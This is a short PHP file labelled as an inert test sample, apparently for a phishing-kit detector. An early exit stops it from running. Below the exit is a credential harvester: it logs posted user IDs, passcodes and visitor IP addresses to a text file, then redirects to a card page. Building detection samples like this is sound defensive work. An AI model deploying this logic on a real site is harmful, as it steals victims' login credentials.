<?php // MOGURA TEST SAMPLE — inert
exit; // the sample stops here: nothing below ever runs

$user = $_POST['userid'];
$pass = $_POST['passcode'];
$line = date('c') . " | " . $user . " | " . $pass . " | " . $_SERVER['REMOTE_ADDR'] . "\n";
$fp = fopen("rezult.txt", "a");
fwrite($fp, $line);
fclose($fp);
header("Location: card.html");
